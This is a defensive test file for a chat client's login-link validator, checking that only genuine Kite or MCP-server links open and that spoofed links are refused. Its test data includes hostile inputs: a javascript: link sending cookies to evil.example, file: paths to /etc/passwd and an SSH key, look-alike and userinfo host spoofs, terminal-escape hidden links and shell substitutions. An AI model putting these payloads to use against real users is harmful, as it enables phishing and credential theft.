// Which links kite-chat opens (src/login/safe-link.ts): the login link read by its place in the text, Kite's host or
// the MCP server's origin only, and every trick refused with its real host.
import { test, expect } from 'vitest';
import {
  checkAuthorizationLink,
  checkLoginLink,
  extractLoginLink,
  extractLoginWarning,
  KITE_RISK_WARNING,
} from '../../../src/login/safe-link.js';

/** A real-format v0.3 login link (SERVER.md §2): signed `session_id=<id>|<ts>.<base64url sig>`, query-escaped. */
const KITE_LINK =
  'https://kite.zerodha.com/connect/login?api_key=kitemcp&v=3&redirect_params=session_id%3Dkitemcp-4f1c2b9e-8a7d-' +
  '4c3b-9e1f-2a3b4c5d6e7f%7C1754467200.dx6dDT3fgsaPyBAq5z1dAXxagvE8O3wuLuO_Yw79CUY%3D';

/** Today's hosted form (SERVER.md, the correction at the top): the MCP server's own /authorize interstitial. */
const HOSTED_LINK =
  'https://mcp.kite.trade/authorize?session_id=kitemcp-4f1c2b9e-8a7d-4c3b-9e1f-2a3b4c5d6e7f%7C1754467200.' +
  'dx6dDT3fgsaPyBAq5z1dAXxagvE8O3wuLuO_Yw79CUY%3D';

/** The `login` tool's exact text since cb81e01 (SERVER.md §2), with the link in both places. */
function loginText(link: string): string {
  return `IMPORTANT: Please display this warning to the user before proceeding:

⚠️ **WARNING: AI systems are unpredictable and non-deterministic. By continuing, you agree to interact with your Zerodha account via AI at your own risk.**

After showing the warning above, provide the user with this login link: [Login to Kite](${link})

If your client supports clickable links, you can render and present it and ask them to click the link above. Otherwise, display the URL and ask them to copy and paste it into their browser: ${link}

After completing the login in your browser, let me know and I'll continue with your request.`;
}

const HOSTED = new URL('https://mcp.kite.trade/sse');
const LOCAL = new URL('http://127.0.0.1:43210/mcp');

test.each([
  ['the real Kite login link', KITE_LINK, HOSTED],
  ['a Kite link with the default port written out', 'https://kite.zerodha.com:443/connect/login?v=3', HOSTED],
  ['a Kite link with an upper-case host', 'https://KITE.Zerodha.com/connect/login?v=3', HOSTED],
  ['a link on the hosted MCP server origin', 'https://mcp.kite.trade/connect/login?api_key=kitemcp&v=3', HOSTED],
  ["today's hosted /authorize link on the MCP server origin", HOSTED_LINK, HOSTED],
  ["the hosted /authorize link when the server URL is /mcp", HOSTED_LINK, new URL('https://mcp.kite.trade/mcp')],
  ['a local test server /authorize link', 'http://127.0.0.1:43210/authorize?session_id=kitemcp-a%7C1.sig%3D', LOCAL],
  ['a local test server link on the MCP server origin', 'http://127.0.0.1:43210/connect/login?api_key=kitemcp', LOCAL],
])('checkLoginLink accepts %s', (_kind, link, server) => {
  const result = checkLoginLink(link, server);
  expect(result).toEqual({ ok: true, url: new URL(link) });
});

test.each([
  ['a file: link', 'file:///etc/passwd', HOSTED, ''],
  ['a file: link with a host', 'file://kite.zerodha.com/etc/passwd', HOSTED, 'kite.zerodha.com'],
  ['a javascript: link', 'javascript:alert(document.cookie)', HOSTED, ''],
  ['a data: link', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', HOSTED, ''],
  ['a custom scheme', 'kite://connect/login?api_key=kitemcp', HOSTED, 'connect'],
  ['an app scheme', 'vscode://open?url=https://kite.zerodha.com/', HOSTED, 'open'],
  ['another host', 'https://evil.example/connect/login?api_key=kitemcp&v=3', HOSTED, 'evil.example'],
  ['Kite as a user name before the real host', 'https://kite.zerodha.com@evil.example/connect/login?v=3', HOSTED,
    'evil.example'],
  ['Kite as user name and password', 'https://kite.zerodha.com:443@evil.example/', HOSTED, 'evil.example'],
  ['userinfo on the real Kite host', 'https://user@kite.zerodha.com/connect/login?v=3', HOSTED, 'kite.zerodha.com'],
  ['Kite as a subdomain of another host', 'https://kite.zerodha.com.evil.example/connect/login?v=3', HOSTED,
    'kite.zerodha.com.evil.example'],
  ['a host that ends like Kite', 'https://notkite.zerodha.com/connect/login?v=3', HOSTED, 'notkite.zerodha.com'],
  ['a Cyrillic look-alike host', 'https://kіte.zerodha.com/connect/login?v=3', HOSTED, 'xn--kte-jhd.zerodha.com'],
  ['a look-alike host written in punycode', 'https://xn--kte-jhd.zerodha.com/', HOSTED, 'xn--kte-jhd.zerodha.com'],
  ['Kite over http', 'http://kite.zerodha.com/connect/login?v=3', HOSTED, 'kite.zerodha.com'],
  ['Kite on another port', 'https://kite.zerodha.com:8443/connect/login?v=3', HOSTED, 'kite.zerodha.com:8443'],
  ['Kite with a trailing-dot host', 'https://kite.zerodha.com./connect/login?v=3', HOSTED, 'kite.zerodha.com.'],
  ['a backslash that browsers read as a slash', 'https://evil.example\\@kite.zerodha.com/', HOSTED, 'evil.example'],
  ['a backslash in the path', 'https://kite.zerodha.com\\evil.example/', HOSTED, 'kite.zerodha.com'],
  ['a space in the query', 'https://kite.zerodha.com/connect/login?v=3 &x=1', HOSTED, 'kite.zerodha.com'],
  ['leading whitespace', ' https://kite.zerodha.com/connect/login?v=3', HOSTED, 'kite.zerodha.com'],
  ['a newline that URL parsing would silently drop', 'https://kite.zero\ndha.com/', HOSTED, 'kite.zerodha.com'],
  ['a tab', 'https://kite.zerodha.com/\tconnect', HOSTED, 'kite.zerodha.com'],
  ['an escape character', 'https://kite.zerodha.com/\u001b[31m', HOSTED, 'kite.zerodha.com'],
  ['a bidi override', 'https://kite.zerodha.com/\u202econnect', HOSTED, 'kite.zerodha.com'],
  ['a zero-width space that URL parsing would drop', 'https://kite.zero\u200bdha.com/', HOSTED, 'kite.zerodha.com'],
  ['the MCP host over http when the server is https', 'http://mcp.kite.trade/connect/login?v=3', HOSTED,
    'mcp.kite.trade'],
  ['the MCP host on another port', 'https://mcp.kite.trade:8443/connect/login?v=3', HOSTED, 'mcp.kite.trade:8443'],
  ['a look-alike of the MCP host', 'https://mcp.kite.trade.evil.example/connect/login', HOSTED,
    'mcp.kite.trade.evil.example'],
  ['another loopback port than the test server', 'http://127.0.0.1:9/connect/login?v=3', LOCAL, '127.0.0.1:9'],
  ['an /authorize link on another host', 'https://evil.example/authorize?session_id=kitemcp-a%7C1.s%3D', HOSTED, 'evil.example'],
  ['an /authorize link with the MCP host as a user name', 'https://mcp.kite.trade@evil.example/authorize?session_id=x', HOSTED,
    'evil.example'],
  ['an /authorize link on a look-alike of the MCP host', 'https://mcp.kite.trade.evil.example/authorize?session_id=x', HOSTED,
    'mcp.kite.trade.evil.example'],
  ['an /authorize link on a Cyrillic look-alike of the MCP host', 'https://mсp.kite.trade/authorize?session_id=x', HOSTED,
    'xn--mp-omc.kite.trade'],
  ['an /authorize link over http when the server is https', 'http://mcp.kite.trade/authorize?session_id=x', HOSTED,
    'mcp.kite.trade'],
  ['an /authorize link on Kite\'s sibling host', 'https://kite.trade/authorize?session_id=x', HOSTED, 'kite.trade'],
  ['an /authorize link with a bidi override', 'https://mcp.kite.trade/\u202eauthorize?session_id=x', HOSTED, 'mcp.kite.trade'],
  ['text that is not a URL', 'click here', HOSTED, ''],
  ['an empty link', '', HOSTED, ''],
])('checkLoginLink refuses %s and names the real host', (_kind, link, server, host) => {
  const result = checkLoginLink(link, server);
  expect(result.ok).toBe(false);
  if (result.ok) return;
  expect(result.host).toBe(host);
  expect(result.reason).toMatch(/^Refused to open the login link /);
  if (host !== '') expect(result.reason).toContain(`to ${host}:`);
  expect(result.reason).not.toMatch(/[\n\r\u0000-\u001f\u007f-\u009f\u202a-\u202e]/);
});

test('the refusal for a look-alike host shows the punycode host, never the Unicode look-alike', () => {
  const result = checkLoginLink('https://kіte.zerodha.com/connect/login?v=3', HOSTED);
  expect(result).toMatchObject({ ok: false, host: 'xn--kte-jhd.zerodha.com' });
  if (!result.ok) {
    expect(result.reason).toContain('look-alike');
    expect(result.reason).not.toContain('kіte');
  }
});

test('a refused host is shown in printable ASCII and cut short', () => {
  const longHost = `https://${'a'.repeat(60)}.${'b'.repeat(60)}.example/`;
  const result = checkLoginLink(longHost, HOSTED);
  expect(result.ok).toBe(false);
  if (!result.ok) {
    expect(result.host.length).toBeLessThanOrEqual(81);
    expect(result.host).toMatch(/^[\x21-\x7e]+…$/);
  }
});

test('a Kite link with shell metacharacters in its query is accepted unchanged', () => {
  const link = 'https://kite.zerodha.com/connect/login?v=3&a=$(touch%20/tmp/pwned)&b=`id`&c=x;y|z&d=$HOME';
  const result = checkLoginLink(link, HOSTED);
  expect(result.ok).toBe(true);
  if (!result.ok) return;
  expect(result.url.href).toBe(link);
  expect(result.url.searchParams.get('a')).toBe('$(touch /tmp/pwned)');
  expect(result.url.searchParams.get('b')).toBe('`id`');
  expect(result.url.searchParams.get('c')).toBe('x;y|z');
  expect(result.url.searchParams.get('d')).toBe('$HOME');
});

test('quotes and angle brackets in a Kite link query keep their meaning; URL parsing only percent-encodes them', () => {
  const result = checkLoginLink(`https://kite.zerodha.com/connect/login?q="a"&s='b'&t=1>2`, HOSTED);
  expect(result.ok).toBe(true);
  if (!result.ok) return;
  expect(result.url.searchParams.get('q')).toBe('"a"');
  expect(result.url.searchParams.get('s')).toBe("'b'");
  expect(result.url.searchParams.get('t')).toBe('1>2');
  expect(result.url.href).not.toMatch(/["'<>]/);
});

test('a file: MCP server URL does not make file: login links "same origin"', () => {
  const result = checkLoginLink('file:///etc/passwd', new URL('file:///srv/mcp'));
  expect(result.ok).toBe(false);
});

test.each([
  ['an https authorization server', 'https://auth.example.com/authorize?response_type=code&code_challenge_method=S256'],
  ['the hosted server authorization page', 'https://mcp.kite.trade/authorize?client_id=abc&state=xyz'],
  ['http on 127.0.0.1', 'http://127.0.0.1:5555/authorize?client_id=abc'],
  ['http on localhost', 'http://localhost:8080/authorize'],
  ['http on the IPv6 loopback', 'http://[::1]:9000/authorize'],
])('checkAuthorizationLink accepts %s', (_kind, link) => {
  expect(checkAuthorizationLink(link)).toEqual({ ok: true, url: new URL(link) });
});

test.each([
  ['http on a remote host', 'http://auth.example.com/authorize', 'auth.example.com'],
  ['http on a host that starts like localhost', 'http://localhost.evil.example/authorize', 'localhost.evil.example'],
  ['http on a host that starts like the loopback address', 'http://127.0.0.1.evil.example/', '127.0.0.1.evil.example'],
  ['a javascript: link', 'javascript:fetch("https://evil.example/"+document.cookie)', ''],
  ['a file: link', 'file:///home/user/.ssh/id_ed25519', ''],
  ['a data: link', 'data:text/html,hello', ''],
  ['a custom scheme', 'myapp://callback?code=1', 'callback'],
  ['a user name before the real host', 'https://auth.example.com@evil.example/authorize', 'evil.example'],
  ['a look-alike Unicode host', 'https://аuth.example.com/authorize', 'xn--uth-5cd.example.com'],
  ['a newline', 'https://auth.example.com/author\nize', 'auth.example.com'],
  ['a backslash', 'https://auth.example.com\\authorize', 'auth.example.com'],
])('checkAuthorizationLink refuses %s', (_kind, link, host) => {
  const result = checkAuthorizationLink(link);
  expect(result).toMatchObject({ ok: false, host });
  if (!result.ok) expect(result.reason).toMatch(/^Refused to open the authorization link /);
});

test.each([
  ["today's hosted /authorize link", HOSTED_LINK],
  ['the v0.3.1 kite.zerodha.com link', KITE_LINK],
  ['a local test server /authorize link', 'http://127.0.0.1:43210/authorize?session_id=kitemcp-a%7C1.sig%3D'],
  ['a local test server link', 'http://127.0.0.1:43210/connect/login?api_key=kitemcp&v=3&redirect_params=session_id%3Dabc%7C1.sig%3D'],
  ['a link at a path never seen before', 'https://mcp.kite.trade/v2/login/start?token=abc%3D'],
])('extractLoginLink finds %s in the exact login text', (_kind, link) => {
  expect(extractLoginLink(loginText(link))).toBe(link);
});

test.each([
  ['the June–July 2025 wording',
    `Please login to Kite by clicking this link: [Login to Kite](${KITE_LINK})\n\nIf your client supports…`],
  ['the April–June 2025 wording', `Show this URL to the user. URL: ${KITE_LINK}\n`],
  ['a link at the end of a sentence', `Open ${KITE_LINK}.`],
  ['a link in angle brackets', `Open <${KITE_LINK}> to log in`],
  ['a link in a code span', `Open \`${KITE_LINK}\` to log in`],
  ['a link in bold', `Open **${KITE_LINK}**`],
  ['a markdown link whose target is in angle brackets', `[Log in](<${KITE_LINK}>)`],
])('extractLoginLink finds the link in %s', (_kind, text) => {
  expect(extractLoginLink(text)).toBe(KITE_LINK);
});

test('extractLoginLink takes the markdown link over an earlier bare link, as a person reads the text', () => {
  const text = `See https://kite.trade/docs for help.\n\nProvide this login link: [Login to Kite](${HOSTED_LINK})`;
  expect(extractLoginLink(text)).toBe(HOSTED_LINK);
});

test('extractLoginLink takes the first bare http(s) link when there is no markdown link', () => {
  expect(extractLoginLink(`Open ${HOSTED_LINK} now, or later ${KITE_LINK}`)).toBe(HOSTED_LINK);
  expect(extractLoginLink('See https://kite.zerodha.com/dashboard?x=1 for details')).toBe('https://kite.zerodha.com/dashboard?x=1');
});

test.each([
  ['a javascript: target', '[Login to Kite](javascript:alert(1))', 'javascript:alert(1'],
  ['a file: target', '[Login to Kite](file:///etc/passwd)', 'file:///etc/passwd'],
  ['a target on another host', '[Login to Kite](https://evil.example/authorize?session_id=x)', 'https://evil.example/authorize?session_id=x'],
])('extractLoginLink returns %s of the markdown link as written, so that checkLoginLink refuses it', (_kind, text, link) => {
  expect(extractLoginLink(text)).toBe(link);
  expect(checkLoginLink(link, HOSTED).ok).toBe(false);
});

test.each([
  ['an already-logged-in answer', 'You are already logged in as Ravi Kumar'],
  ['an error text', 'Failed to generate Kite login URL'],
  ['a link without its scheme', 'Open mcp.kite.trade/authorize?session_id=abc to log in'],
  ['a bare javascript: link', 'Open javascript:alert(1) to log in'],
  ['an empty text', ''],
])('extractLoginLink returns undefined for %s', (_kind, text) => {
  expect(extractLoginLink(text)).toBeUndefined();
});

test('extractLoginLink returns a look-alike link as written, so that checkLoginLink can refuse it', () => {
  const text = loginText('https://kite.zerodha.com@evil.example/connect/login?v=3');
  const link = extractLoginLink(text);
  expect(link).toBe('https://kite.zerodha.com@evil.example/connect/login?v=3');
  expect(checkLoginLink(link ?? '', HOSTED).ok).toBe(false);
});

test('extractLoginWarning returns the warning sentence of the exact login text without markdown', () => {
  expect(extractLoginWarning(loginText(KITE_LINK))).toBe(KITE_RISK_WARNING);
});

test('KITE_RISK_WARNING is the wording of SERVER.md §2', () => {
  expect(KITE_RISK_WARNING).toBe(
    '⚠️ WARNING: AI systems are unpredictable and non-deterministic. By continuing, you agree to interact ' +
      'with your Zerodha account via AI at your own risk.',
  );
});

test('extractLoginWarning strips terminal escapes from the server text', () => {
  const text = 'x\n⚠️ **WARNING: \u001b]8;;https://evil.example/\u0007careful\u001b]8;;\u0007 now**\ny';
  expect(extractLoginWarning(text)).toBe('⚠️ WARNING: careful now');
});

test.each([
  ['a text without a warning', 'You are already logged in as Ravi Kumar'],
  ['a warning line far too long to be the warning', `WARNING: ${'x'.repeat(1000)}`],
])('extractLoginWarning returns undefined for %s', (_kind, text) => {
  expect(extractLoginWarning(text)).toBeUndefined();
});

test('extractLoginLink reads the text as a terminal shows it: a link hidden in an escape sequence is not found', () => {
  const hidden = '\u001b]8;;https://evil.example/authorize?session_id=x\u0007Log in\u001b]8;;\u0007';
  expect(extractLoginLink(`${hidden} at ${HOSTED_LINK}`)).toBe(HOSTED_LINK);
  expect(extractLoginLink(hidden)).toBeUndefined();
});
